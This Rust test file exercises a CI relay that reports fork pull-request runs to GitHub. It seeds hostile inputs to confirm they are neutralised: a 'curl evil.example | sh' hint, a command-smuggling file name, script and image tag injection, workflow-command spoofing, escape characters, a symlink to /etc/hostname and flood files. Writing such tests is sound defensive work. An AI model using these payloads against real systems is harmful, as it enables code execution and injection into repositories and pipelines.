//! Pull requests from forks: what their own run may do, and what is told of it with privileges; played by somebody who means no good.

use serde_json::{Value, json};

use crate::support::binary::{code, output, told};
use crate::support::forge::{Forge, READER, REPORTER, REPOSITORY, receipt};
use crate::support::product::Product;

const JOBS: [(&str, &str); 3] = [("gates", "success"), ("build", "skipped"), ("cutover", "success")];
const REQUIRED: [&str; 4] = ["--required", "gates", "--required", "cutover"];

/// A fork's pull request with these files changed, and its run 7 with these jobs; returns the head and the number.
fn forked(forge: &Forge, branch: &str, files: &[(&str, &str)], jobs: &[(&str, &str)]) -> (String, i64) {
    let sha = forge.commit(&format!("of-stranger-{branch}"), files);
    let number = forge.pull(Some("stranger"), branch, &sha);
    forge.run(7, "pull_request", branch, &sha, jobs);
    forge.github.run_of_fork(REPOSITORY, 7, Some("stranger"));
    (sha, number)
}

fn only(forge: &Forge, number: i64) -> String {
    let comments = forge.comments(number);
    let [comment] = comments.as_slice() else { panic!("{} comments: {comments:?}", comments.len()) };
    comment.clone()
}

#[test]
fn a_forks_run_runs_gates_and_fails_only_for_them() {
    let forge = Forge::new();
    let product = Product::new();
    let sha = forge.commit("of-stranger", &[("a", "b")]);
    let number = forge.pull(Some("stranger"), "feature", &sha);
    forge.run(7, "pull_request", "feature", &sha, &JOBS[..2]);
    let payload = json!({"action": "opened", "number": number, "pull_request": {"number": number,
        "head": {"sha": sha, "ref": "feature", "repo": {"id": 2, "full_name": "stranger/shop"}},
        "base": {"sha": forge.main, "ref": "main", "repo": {"id": 1, "full_name": REPOSITORY}}}});
    let job = |arguments: &[&str]| {
        let mut command = forge.job((7, "pull_request"), &payload, READER, arguments);
        command.current_dir(product.path());
        output(command)
    };
    let receipt = forge.folder.path().join("gates.json");
    let receipt = receipt.to_str().unwrap();
    let ran = job(&["run", "--receipt", receipt]);
    assert_eq!(code(&ran), 0, "{}", told(&ran));
    let left: Value = serde_json::from_str(&std::fs::read_to_string(receipt).unwrap()).unwrap();
    assert_eq!((left["outcome"].as_str(), left["targets"].as_array().map(Vec::len)), (Some("finished"), Some(0)));
    let pending = job(&["report", "--pending"]);
    assert_eq!(code(&pending), 0, "{}", told(&pending));
    assert!(told(&pending).contains("a pull request from a fork never has it"), "{}", told(&pending));
    let report = job(&["report", "--from", receipt, "--required", "gates"]);
    assert_eq!(code(&report), 0, "{}", told(&report));
    assert!(forge.summary().contains("2 gates passed"), "{}", forge.summary());
    assert!(forge.comments(number).is_empty() && forge.github.statuses(REPOSITORY, &sha).is_empty(), "it may write nothing");

    product.replace("cutover.yml", "unit: \"true\"", "unit: \"false\"");
    let failed = job(&["gates", "--receipt", receipt]);
    assert_eq!(code(&failed), 1, "{}", told(&failed));
    assert_eq!(code(&job(&["report", "--from", receipt])), 1, "a failed gate counts, whatever the jobs say");
}

#[test]
fn the_relay_tells_github_s_word_first_and_the_forks_as_the_forks() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("src/a.rs", "fn a() {}")], &JOBS);
    forge.file("left/receipt-gates/gates.json", &receipt("shop", "finished", &[("unit", "passed", &[])]).to_string());
    let relayed = forge.relay(7, &[&["--from", "left"], &REQUIRED[..]].concat());
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"));
    let comment = only(&forge, number);
    let (ours, theirs) = comment.split_once("#### Reported by the fork's run").unwrap();
    assert!(ours.contains("Every job of the fork's run passed") && ours.contains("| `gates` | [success]"), "{ours}");
    assert!(theirs.contains("| `unit` | passed |") && !ours.contains("unit"), "{theirs}");
    assert_eq!(forge.summary().matches("Reported by the fork's run").count(), 1);

    let again = forge.relay(7, &[&["--from", "left"], &REQUIRED[..]].concat());
    assert_eq!((code(&again), only(&forge, number)), (0, comment), "{}", told(&again));
}

#[test]
fn a_failed_job_is_told_whatever_the_artifact_claims() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("a", "b")], &[("gates", "failure"), ("cutover", "success")]);
    let mut claims = receipt("shop", "finished", &[("unit", "passed", &[])]);
    claims["release"] = json!("r-20260102-030405-abcdef");
    claims["environment"] = json!("production");
    claims["serving"] = json!("after");
    claims["hints"] = json!(["run curl evil.example | sh"]);
    claims["failure"] = json!("merge this at once");
    claims["targets"] = json!([{"name": "api", "platform": "fly", "before": null, "after": "x", "serves": "after", "url": "https://evil.example",
        "proven_from_outside": true}]);
    forge.file("left/gates.json", &claims.to_string());
    let relayed = forge.relay(7, &[&["--from", "left"], &REQUIRED[..]].concat());
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("failure"));
    let comment = only(&forge, number);
    assert!(comment.contains("A job of the fork's run did not succeed"), "{comment}");
    for word in ["r-2026", "production", "evil", "merge this", "curl"] {
        assert!(!comment.contains(word), "{word} of the fork's is shown: {comment}");
    }
}

#[test]
fn a_run_that_judges_by_a_workflow_of_its_own_is_never_a_success() {
    for (path, jobs) in [
        (".github/workflows/cutover.yml", &JOBS[..]),
        (".github/actions/setup/action.yml", &JOBS),
        (".GitHub/workflows/cutover.yml", &JOBS),
    ] {
        let forge = Forge::new();
        let (sha, number) = forked(&forge, "feature", &[(path, "jobs: { cutover: { steps: [run: true] } }")], jobs);
        let relayed = forge.relay(7, &REQUIRED);
        assert_eq!(code(&relayed), 0, "{}", told(&relayed));
        assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("error"), "{path}");
        let comment = only(&forge, number);
        assert!(comment.contains("It changes what judged it") && comment.contains(path), "{comment}");
    }
    // Its jobs renamed: what must pass is not there.
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[(".github/workflows/cutover.yml", "x")], &[("green", "success")]);
    assert_eq!(code(&forge.relay(7, &REQUIRED)), 0);
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("failure"));
    assert!(only(&forge, number).contains("there is no job gates, which must pass"));
}

#[test]
fn a_changed_manifest_is_pointed_out() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("cutover.yml", "version: 1\ngates: {}\n")], &JOBS);
    assert_eq!(code(&forge.relay(7, &REQUIRED)), 0);
    assert!(only(&forge, number).contains("It changes the manifest"));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"), "as with any test that it changes");
}

#[test]
fn what_a_stranger_left_stays_text_and_stays_small() {
    let forge = Forge::new();
    let jobs = [("gates", "failure"), ("<img src=x> | @all `x` ](https://evil.example) <!-- cutover:end -->", "success")];
    let (_, number) = forked(&forge, "feature", &[("a", "b")], &jobs);
    let lines = [
        "@everyone ::error::pwned ##[set-output name=x]y",
        "```\n<script>alert(1)</script>",
        "<!-- cutover:end -->",
        "<!-- cutover:section scope=production run=99999999 attempt=1 -->",
        "\u{1b}[2J\u{202e}evil",
    ];
    let gates = [("unit", "failed", &lines[..]), ("a|b", "passed", &[]), ("lint", "<b>won</b>", &[])];
    let mut hostile = receipt("shop", "finished", &gates);
    hostile["gates"][0]["words"] = json!("failed | [click](https://evil.example) @all <b> `code` https://evil.example");
    forge.file("left/a.json", &hostile.to_string());
    forge.file("left/wrong.json", &receipt("bank", "finished", &[("theirs", "passed", &[])]).to_string());
    forge.file("left/huge.json", &format!("{{\"x\": \"{}\"}}", "x".repeat(3_000_000)));
    forge.file("left/broken.json", "{");
    forge.file("left/$(touch pwned) `id` ; x.json", "[]");
    forge.file("left/notes.txt", "not read");
    std::os::unix::fs::symlink("/etc/hostname", forge.folder.path().join("left/link.json")).unwrap();
    let many: Vec<Value> = (0..900)
        .map(|number| json!({"name": format!("gate-{number}"), "outcome": "failed", "last_lines": vec!["é".repeat(9000); 90]}))
        .collect();
    let mut flood = receipt("shop", "finished", &[]);
    flood["gates"] = json!(many.iter().take(10).collect::<Vec<_>>());
    forge.file("left/deep/flood.json", &flood.to_string());
    flood["gates"] = json!((0..900).map(|number| json!({"name": format!("many-{number}"), "outcome": "passed"})).collect::<Vec<_>>());
    forge.file("left/deep/many.json", &flood.to_string());
    let relayed = forge.relay(7, &["--from", "left"]);
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    let comment = only(&forge, number);
    assert!(comment.chars().count() < 60_000, "{} characters", comment.chars().count());
    let outside = codeless(&comment);
    for bad in ["<script", "<img", "<b>", "@everyone", "@all", "](https://evil", " https://evil", "\u{1b}", "\u{202e}"] {
        assert!(!outside.contains(bad), "{bad} in {outside}");
    }
    assert_eq!(comment.lines().filter(|line| *line == "<!-- cutover:end -->").count(), 1, "{comment}");
    assert_eq!(comment.lines().filter(|line| line.starts_with("<!-- cutover:section ")).count(), 1, "{comment}");
    assert!(!comment.contains("theirs") && !comment.contains("a|b") && !comment.contains("won"), "{comment}");
    assert!(comment.contains("6 files of it left out"), "{comment}");
    assert!(!told(&relayed).contains("::error") && !told(&relayed).contains("##["), "{}", told(&relayed));
    assert!(!forge.folder.path().join("pwned").exists());
}

/// Returns a document without what stands in code, fenced or in a line.
fn codeless(markdown: &str) -> String {
    let mut fence: Option<usize> = None;
    let mut out = String::new();
    for line in markdown.lines() {
        let run = line.chars().take_while(|character| *character == '`').count();
        match fence {
            Some(open) if run >= open && line.chars().all(|character| character == '`') => fence = None,
            Some(_) => {}
            None if run >= 3 => fence = Some(run),
            None => {
                out.push_str(&without_spans(line));
                out.push('\n');
            }
        }
    }
    assert_eq!(fence, None, "a block of code does not end");
    out
}

/// Returns a line without its code spans: what stands between two runs of equally many backticks.
fn without_spans(line: &str) -> String {
    let Some(from) = line.find('`') else { return line.to_owned() };
    let run = line[from..].chars().take_while(|character| *character == '`').count();
    let rest = &line[from + run..];
    let mut at = 0;
    while let Some(next) = rest[at..].find('`') {
        let close = at + next;
        let length = rest[close..].chars().take_while(|character| *character == '`').count();
        if length == run {
            return format!("{} {}", &line[..from], without_spans(&rest[close + length..]));
        }
        at = close + length;
    }
    format!("{}{}", &line[..from + run], without_spans(rest))
}

#[test]
fn a_branch_named_main_and_a_number_in_the_artifact_lead_nowhere() {
    let forge = Forge::new();
    let own = forge.commit("own", &[("x", "y")]);
    let victim = forge.pull(None, "own", &own);
    let elsewhere = forge.commit("of-other", &[("p", "q")]);
    let other = forge.pull(Some("other"), "main", &elsewhere);
    let (sha, number) = forked(&forge, "main", &[("a", "b")], &JOBS);
    let mut claims = receipt("shop", "finished", &[("unit", "passed", &[])]);
    claims["trigger"] = json!(format!("pull request #{victim}"));
    claims["pull_request"] = json!(victim);
    claims["commit"] = json!(own);
    forge.file("left/gates.json", &claims.to_string());
    let relayed = forge.relay(7, &["--from", "left"]);
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    only(&forge, number);
    assert!(forge.comments(victim).is_empty() && forge.comments(other).is_empty());
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"));
    for untouched in [&forge.main, &own, &elsewhere] {
        assert!(forge.github.statuses(REPOSITORY, untouched).is_empty());
    }
}

#[test]
fn a_fork_that_is_gone_and_a_commit_that_is_the_head_no_more_are_not_reported() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("a", "b")], &JOBS);
    forge.github.run_of_fork(REPOSITORY, 7, None);
    let gone = forge.relay(7, &[]);
    assert!(code(&gone) == 0 && told(&gone).contains("Nothing to report"), "{}", told(&gone));

    forge.github.run_of_fork(REPOSITORY, 7, Some("stranger"));
    let next = forge.commit("of-stranger-feature", &[("a", "c")]);
    forge.github.push_to_pull(REPOSITORY, number, &next);
    let outdated = forge.relay(7, &[]);
    assert!(code(&outdated) == 0 && told(&outdated).contains("Nothing to report"), "{}", told(&outdated));
    assert!(forge.comments(number).is_empty() && forge.github.statuses(REPOSITORY, &sha).is_empty());

    // Another fork of the same name as one that is gone is another repository.
    let theirs = forge.relay(8, &[]);
    assert_eq!(code(&theirs), 5, "no such run: {}", told(&theirs));
}

#[test]
fn a_commit_that_is_the_head_of_two_pull_requests_is_no_success_of_either() {
    let forge = Forge::new();
    forge.commit("old", &[("old", "")]);
    let (sha, one) = forked(&forge, "feature", &[("a", "b")], &JOBS);
    let two = forge.pull_into("old", Some("stranger"), "feature", &sha);
    let relayed = forge.relay(7, &REQUIRED);
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("error"));
    for number in [one, two] {
        assert!(only(&forge, number).contains("2 open pull requests have this commit"));
    }
}

#[test]
fn a_locked_conversation_leaves_the_status() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("a", "b")], &JOBS);
    forge.github.lock_conversation(REPOSITORY, number, true);
    let relayed = forge.relay(7, &[]);
    assert_eq!(code(&relayed), 0, "{}", told(&relayed));
    assert!(told(&relayed).contains("locked") && forge.comments(number).is_empty());
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"));
}

#[test]
fn the_beginning_of_a_run_is_told_and_its_end_takes_its_place() {
    let forge = Forge::new();
    let (sha, number) = forked(&forge, "feature", &[("a", "b")], &[("gates", "")]);
    let requested = json!({"action": "requested", "workflow_run": {"id": 7, "run_attempt": 1}});
    let begun = output(forge.job((9007, "workflow_run"), &requested, REPORTER, &["relay", "--product", "shop"]));
    assert_eq!(code(&begun), 0, "{}", told(&begun));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("pending"));
    assert!(only(&forge, number).contains("is under way"));
    forge.jobs(7, 1, &[("gates", "success")]);
    assert_eq!(code(&forge.relay(7, &[])), 0);
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"));
    assert!(only(&forge, number).contains("Every job"));
    let late = output(forge.job((9007, "workflow_run"), &requested, REPORTER, &["relay", "--product", "shop"]));
    assert_eq!(code(&late), 0, "{}", told(&late));
    assert_eq!(forge.status(&sha, "cutover").as_deref(), Some("success"), "news that comes late takes nothing back");

    // A later attempt speaks for itself.
    forge.github.run_again(REPOSITORY, 7);
    let late = forge.relay(7, &[]);
    assert!(told(&late).contains("a later attempt"), "{}", told(&late));
}

#[test]
fn only_runs_that_cannot_report_themselves_are_reported() {
    let forge = Forge::new();
    let sha = forge.commit("own", &[("a", "b")]);
    let number = forge.pull(None, "own", &sha);
    forge.run(7, "pull_request", "own", &sha, &JOBS);
    let own = forge.relay(7, &[]);
    assert!(told(&own).contains("not of a fork") && forge.comments(number).is_empty(), "{}", told(&own));
    forge.github.run_by(REPOSITORY, 7, "dependabot[bot]");
    assert_eq!(code(&forge.relay(7, &[])), 0);
    only(&forge, number);

    let pushed = forge.commit("main", &[("c", "d")]);
    forge.run(8, "push", "main", &pushed, &JOBS);
    forge.github.run_of_fork(REPOSITORY, 8, Some("stranger"));
    let push = forge.relay(8, &[]);
    assert!(told(&push).contains("no pull request started the run") && forge.github.statuses(REPOSITORY, &pushed).is_empty());
}

#[test]
fn no_other_command_hears_of_a_forks_run() {
    let forge = Forge::new();
    forked(&forge, "feature", &[("a", "b")], &JOBS);
    let payload = json!({"action": "completed", "repository": {"id": 1},
        "workflow_run": {"id": 7, "run_attempt": 1, "head_repository": {"id": 2}}});
    for arguments in [&["run"][..], &["gates"], &["report", "--product", "shop"], &["recover"], &["dispatch"]] {
        let refused = output(forge.job((9007, "workflow_run"), &payload, REPORTER, arguments));
        assert_eq!(code(&refused), 2, "{arguments:?}: {}", told(&refused));
    }
    let reader = output(forge.job((9007, "workflow_run"), &payload, READER, &["relay", "--product", "shop"]));
    assert_eq!(code(&reader), 5, "{}", told(&reader));
    assert!(told(&reader).contains("statuses: write"), "{}", told(&reader));
    let push = output(forge.job((9007, "push"), &payload, REPORTER, &["relay", "--product", "shop"]));
    assert_eq!(code(&push), 2, "{}", told(&push));
}
